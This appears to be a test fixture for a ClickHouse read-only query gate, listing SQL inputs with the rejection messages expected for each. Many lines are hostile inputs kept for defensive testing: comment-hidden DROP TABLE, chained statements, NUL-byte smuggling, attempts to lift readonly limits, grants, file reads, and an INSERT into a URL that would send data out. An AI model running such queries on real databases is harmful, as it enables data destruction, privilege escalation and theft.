/* synonyms | synonyms() reads models */ SELECT synonyms('x', 'important')
/* lists of domains | cutToFirstSignificantSubdomainCustom() reads models */ SELECT cutToFirstSignificantSubdomainCustom('a.b.c', 'list')
/* a name look-up | reverseDNSQuery() reaches over the network */ SELECT reverseDNSQuery('127.0.0.1')
/* a number from Keeper | generateSerialID() reaches over the network */ SELECT generateSerialID('x')
/* a language model | aiGenerate() calls a language model */ SELECT aiGenerate('c', 'hello')
/* a language model by its other name | AIGenerate() calls a language model */ SELECT AIGenerate('c', 'hello')
/* a language model that classifies | aiClassify() calls a language model */ SELECT aiClassify('c', case_id, ['a', 'b']) FROM cases
/* a language model that embeds | aiEmbed() calls a language model */ SELECT aiEmbed('c', 'hello')
/* an address to a line | addressToLine() looks into the inside */ SELECT addressToLine(1)
/* an address to a symbol | addressToSymbol() looks into the inside */ SELECT addressToSymbol(1)
/* a line in the server's log | logTrace() looks into the inside */ SELECT logTrace('x')
/* an inner function | __getScalar() looks into the inside */ SELECT __getScalar('x')
/* an inner function of set membership | inIgnoreSet() looks into the inside */ SELECT inIgnoreSet(1, (1, 2))
/* a flame graph | flameGraph() looks into the inside */ SELECT flameGraph(1, 2, 3)
/* an aggregate that throws | aggThrow() looks into the inside */ SELECT aggThrow(0.1)(1)
/* an aggregate that throws, with combinators | aggThrowIfState() looks into the inside */ SELECT aggThrowIfState(0.1)(1, 1)
/* an aggregate that throws, by name | aggThrow() looks into the inside */ SELECT arrayReduce('aggThrow(0.5)', [1])
/* an aggregate by a name that is put together | arrayReduce() must be given the name */ SELECT arrayReduce(concat('agg', 'Throw'), [1])
/* an aggregate by a name from a parameter | arrayReduce() must be given the name */ SELECT arrayReduce({f:String}, [1])
/* an aggregate by a name in ranges | initializeAggregation() must be given the name */ SELECT initializeAggregation(if(1, 'aggThrow', 'sum'), 1)
/* a state made by hand | states of aggregates out of bytes */ SELECT finalizeAggregation(CAST(unhex('0A00000000000000') AS AggregateFunction(sum, UInt64)))
/* a state made by hand with :: | states of aggregates out of bytes */ SELECT (unhex('FFFF')::AggregateFunction(groupArray, UInt64)) IS NULL
/* a state made by hand in an array | states of aggregates out of bytes */ SELECT CAST([unhex('FF')], 'Array(AggregateFunction(uniq, String))')
/* a state made by hand, cast accurately | states of aggregates out of bytes */ SELECT accurateCastOrNull(unhex('FF'), 'AggregateFunction(uniq, String)')
/* a state made by hand of a type that is put together | must be written out */ SELECT CAST(unhex('FF'), concat('Aggregate', 'Function(uniq, String)'))
/* a state made by hand of a type from a parameter | must be written out */ SELECT CAST(unhex('FF'), {f:String})
/* a state as a parameter | states of aggregates out of bytes */ SELECT finalizeAggregation({f:AggregateFunction(sum, UInt64)})
/* a state in values | states of aggregates out of bytes */ SELECT * FROM values('a AggregateFunction(sum, UInt64)', (unhex('0A00000000000000')))
/* a random query | fuzzQuery() makes up queries */ SELECT fuzzQuery('SELECT 1')
/* a random table | generateRandomStructure() makes up queries */ SELECT generateRandomStructure(3)
/* tags of TimeSeries tables | timeSeriesIdToTags() works on tables */ SELECT timeSeriesIdToTags(1)
/* a function that nobody knows | is not among the functions */ SELECT somethingNew(1)
/* a function that nobody knows, with a combinator | is not among the functions */ SELECT somethingNewIf(1, 1)
/* a function of another database | is not among the functions */ SELECT vault.leak(1)
/* a lambda's name that is a function of the engine | is not among the functions */ SELECT somethingNew(1), (SELECT 1 AS somethingNew)
/* to a file | INTO OUTFILE writes a file */ SELECT * FROM cases INTO OUTFILE '@DIR@/out.csv'
/* to a file, cut off | INTO OUTFILE writes a file */ SELECT 1 INTO OUTFILE '@FILE@' TRUNCATE
/* to a file, appended | INTO OUTFILE writes a file */ SELECT 1 INTO OUTFILE '@FILE@' APPEND
/* to a file and the answer | INTO OUTFILE writes a file */ SELECT 1 INTO OUTFILE '@DIR@/out.csv' AND STDOUT
/* to a packed file | INTO OUTFILE writes a file */ SELECT 1 INTO OUTFILE '@DIR@/out.csv.gz' COMPRESSION 'gzip' LEVEL 9
/* to a file in a format | Free SQL|free SQL */ SELECT 1 INTO OUTFILE '@DIR@/out.csv' FORMAT CSV
/* to a file from a union | INTO OUTFILE writes a file */ SELECT 1 UNION ALL SELECT 2 INTO OUTFILE '@DIR@/out.csv'
/* to a file from a subquery | Syntax error */ SELECT * FROM (SELECT 1 INTO OUTFILE '@DIR@/out.csv')
/* to a file behind a closed bracket | Syntax error */ SELECT 1) INTO OUTFILE '@DIR@/out.csv' --
/* in a format | FORMAT changes the form */ SELECT 1 FORMAT JSON
/* in a format, lower case | FORMAT changes the form */ select 1 format tsv
/* in no format | FORMAT changes the form */ SELECT * FROM cases FORMAT Null
/* with a setting | SETTINGS changes the limits */ SELECT 1 SETTINGS max_execution_time = 0
/* with settings that lift limits | SETTINGS changes the limits */ SELECT * FROM numbers(10) SETTINGS max_memory_usage = 0, readonly = 0
/* with a setting inside | SETTINGS changes the limits */ SELECT * FROM (SELECT 1 SETTINGS max_threads = 1)
/* with a setting in a WITH | SETTINGS changes the limits */ WITH t AS (SELECT 1 SETTINGS readonly = 0) SELECT * FROM t
/* with a setting in a union | SETTINGS changes the limits */ SELECT 1 UNION ALL SELECT 2 SETTINGS max_threads = 1
/* with the setting that reads JSON trees | SETTINGS changes the limits */ SELECT 1 SETTINGS dialect = 'clickhouse_json'
/* totals beside the rows | WITH TOTALS puts totals outside the rows */ SELECT process, count() FROM cases GROUP BY process WITH TOTALS
/* for ever | STREAM waits */ SELECT * FROM cases STREAM
/* SET | SET is not allowed */ SET readonly = 0
/* SET of a limit | SET is not allowed */ SET max_memory_usage = 0
/* SET of a role | SET is not allowed */ SET ROLE ALL
/* SET of a parameter | SET is not allowed */ SET param_x = 1
/* USE | USE is not allowed */ USE system
/* KILL of all | KILL is not allowed */ KILL QUERY WHERE 1
/* KILL of one | KILL is not allowed */ KILL QUERY WHERE query_id = 'x' SYNC
/* KILL of a mutation | KILL is not allowed */ KILL MUTATION WHERE 1
/* INSERT of rows | INSERT is not allowed */ INSERT INTO cases VALUES (1)
/* INSERT of a query | INSERT is not allowed */ INSERT INTO exos.cases SELECT * FROM cases
/* INSERT into a file | INSERT is not allowed */ INSERT INTO FUNCTION file('@DIR@/out.csv', 'CSV') SELECT 1
/* INSERT into a URL | INSERT is not allowed */ INSERT INTO FUNCTION url('http://127.0.0.1:@PORT@/', 'CSV') SELECT 1
/* INSERT from a file | INSERT is not allowed */ INSERT INTO cases FROM INFILE '@FILE@' FORMAT CSV
/* INSERT behind WITH | is not allowed */ WITH t AS (SELECT 1) INSERT INTO cases SELECT * FROM t
/* CREATE TABLE | CREATE is not allowed */ CREATE TABLE exos.x (a Int8) ENGINE = Memory
/* CREATE TABLE on a file | CREATE is not allowed */ CREATE TABLE exos.x (a String) ENGINE = File(CSV, '@FILE@')
/* CREATE TABLE on a URL | CREATE is not allowed */ CREATE TABLE exos.x (a String) ENGINE = URL('http://127.0.0.1:@PORT@/', CSV)
/* CREATE TABLE from a query | CREATE is not allowed */ CREATE TABLE exos.x ENGINE = Memory AS SELECT 1
/* CREATE TEMPORARY TABLE | CREATE is not allowed */ CREATE TEMPORARY TABLE x AS SELECT file('@FILE@')
/* CREATE VIEW | CREATE is not allowed */ CREATE VIEW exos.x AS SELECT 1
/* CREATE MATERIALIZED VIEW | CREATE is not allowed */ CREATE MATERIALIZED VIEW exos.x TO exos.cases AS SELECT 1
/* CREATE DATABASE | CREATE is not allowed */ CREATE DATABASE x
/* CREATE DATABASE on a folder | CREATE is not allowed */ CREATE DATABASE x ENGINE = Filesystem('@DIR@')
/* CREATE FUNCTION | CREATE is not allowed */ CREATE FUNCTION leak AS x -> file(x)
/* CREATE DICTIONARY | CREATE is not allowed */ CREATE DICTIONARY exos.d (a UInt64, b String) PRIMARY KEY a SOURCE(FILE(PATH '@FILE@' FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(0)
/* CREATE USER | CREATE is not allowed */ CREATE USER mallory
/* CREATE ROLE | CREATE is not allowed */ CREATE ROLE mallory
/* CREATE NAMED COLLECTION | CREATE is not allowed */ CREATE NAMED COLLECTION c AS url = 'http://127.0.0.1:@PORT@/'
/* CREATE WORKLOAD | CREATE is not allowed */ CREATE WORKLOAD w
/* ALTER TABLE | ALTER is not allowed */ ALTER TABLE cases DELETE WHERE 1
/* ALTER TABLE that copies | ALTER is not allowed */ ALTER TABLE cases FREEZE
/* ALTER USER | ALTER is not allowed */ ALTER USER default SETTINGS readonly = 0
/* DROP TABLE | DROP is not allowed */ DROP TABLE exos.cases
/* DROP TABLE behind a comment | DROP is not allowed */ /* SELECT 1 */ DROP TABLE exos.cases
/* DROP TABLE behind a line comment | DROP is not allowed */ -- SELECT 1⏎DROP TABLE exos.cases
/* DROP DATABASE | DROP is not allowed */ DROP DATABASE exos
/* TRUNCATE | TRUNCATE is not allowed */ TRUNCATE TABLE cases
/* DELETE | DELETE is not allowed */ DELETE FROM cases WHERE 1
/* UPDATE | UPDATE is not allowed */ UPDATE cases SET process = '' WHERE 1
/* RENAME | RENAME is not allowed */ RENAME TABLE cases TO lost
/* EXCHANGE | EXCHANGE is not allowed */ EXCHANGE TABLES cases AND case_events
/* OPTIMIZE | OPTIMIZE is not allowed */ OPTIMIZE TABLE cases FINAL
/* ATTACH | ATTACH is not allowed */ ATTACH TABLE x FROM '@DIR@' (a String) ENGINE = MergeTree ORDER BY a
/* DETACH | DETACH is not allowed */ DETACH TABLE cases
/* UNDROP | UNDROP is not allowed */ UNDROP TABLE cases
/* BACKUP | BACKUP is not allowed */ BACKUP TABLE cases TO File('@DIR@/backup')
/* RESTORE | RESTORE is not allowed */ RESTORE TABLE cases FROM File('@DIR@/backup')
/* GRANT | GRANT is not allowed */ GRANT ALL ON *.* TO default
/* REVOKE | REVOKE is not allowed */ REVOKE ALL ON *.* FROM default
/* SYSTEM SHUTDOWN | SYSTEM is not allowed */ SYSTEM SHUTDOWN
/* SYSTEM that stops merges | SYSTEM is not allowed */ SYSTEM STOP MERGES
/* SYSTEM that drops caches | SYSTEM is not allowed */ SYSTEM DROP MARK CACHE
/* SHOW TABLES | SHOW is not allowed */ SHOW TABLES FROM system
/* SHOW DATABASES | SHOW is not allowed */ SHOW DATABASES
/* SHOW CREATE | SHOW is not allowed */ SHOW CREATE TABLE cases
/* SHOW GRANTS | SHOW is not allowed */ SHOW GRANTS
/* SHOW PROCESSLIST | SHOW is not allowed */ SHOW PROCESSLIST
/* SHOW SETTINGS | SHOW is not allowed */ SHOW SETTINGS LIKE '%'
/* DESCRIBE | DESCRIBE is not allowed */ DESCRIBE TABLE cases
/* DESCRIBE of a file | DESCRIBE is not allowed */ DESCRIBE TABLE file('@FILE@', 'CSV')
/* DESC | DESC is not allowed */ DESC @VAULT@
/* EXISTS | EXISTS is not allowed */ EXISTS TABLE @VAULT@
/* CHECK | CHECK is not allowed */ CHECK TABLE cases
/* EXPLAIN | EXPLAIN is not allowed */ EXPLAIN SELECT 1
/* EXPLAIN that runs constants | EXPLAIN is not allowed */ EXPLAIN QUERY TREE SELECT file('@FILE@')
/* EXPLAIN that runs the query | EXPLAIN is not allowed */ EXPLAIN ANALYZE SELECT 1
/* WATCH | WATCH is not allowed|this one with WATCH */ WATCH cases
/* EXECUTE AS | EXECUTE is not allowed */ EXECUTE AS default SELECT 1
/* BEGIN | BEGIN is not allowed */ BEGIN TRANSACTION
/* MOVE | MOVE is not allowed */ MOVE USER default TO x
/* COPY | COPY is not allowed */ COPY cases TO stdout
/* COPY to a file | Syntax error */ COPY cases TO '@DIR@/out.csv'
/* in parallel | PARALLEL WITH is not allowed */ SELECT 1 PARALLEL WITH SELECT 2
/* in parallel with something worse | is not allowed|Syntax error */ SELECT 1 PARALLEL WITH DROP TABLE exos.cases
/* two statements | one statement at a time */ SELECT 1; SELECT 2
/* two statements, the second worse | one statement at a time */ SELECT 1; DROP TABLE exos.cases
/* two statements on two lines | one statement at a time */ SELECT 1;⏎SELECT file('@FILE@')
/* two statements and a comment | one statement at a time */ SELECT 1; /* x */ SET readonly = 0
/* INSERT with data that is a statement | is not allowed */ INSERT INTO cases FORMAT CSV⏎1; DROP TABLE exos.cases
/* out of the brackets | Syntax error */ SELECT 1) UNION ALL (SELECT file('@FILE@')
/* out of the brackets, with a comment | Syntax error */ SELECT 1) --
/* an open bracket | Syntax error */ SELECT (1
/* an open text | cannot be parsed|Syntax error */ SELECT 'a
/* an open comment | cannot be parsed|Syntax error */ SELECT 1 /* a
/* an open backquote | cannot be parsed|Syntax error */ SELECT `a
/* no SQL | There is no SQL */ ;
/* only a comment | Empty query|There is no SQL|cannot be parsed */ -- nothing
/* a NUL byte | NUL byte */ SELECT 1␀ FROM @VAULT@
/* a NUL byte in a comment | NUL byte */ SELECT 1 --␀⏎, file('@FILE@')
/* not a statement | Syntax error */ SELEC 1
/* a command of the shell client | cannot be parsed|Syntax error */ \d
/* a way out of the shell client | is not allowed|this one with EXIT */ exit
/* a pipe | Syntax error */ SELECT 1 | id
/* a parameter without a value | no value is given */ SELECT {missing:String}
/* a literal that is not UTF-8 | not UTF-8 */ SELECT '\xff\xfe'
/* a number beyond 64 bits | more than 64 bits */ SELECT 18446744073709551616
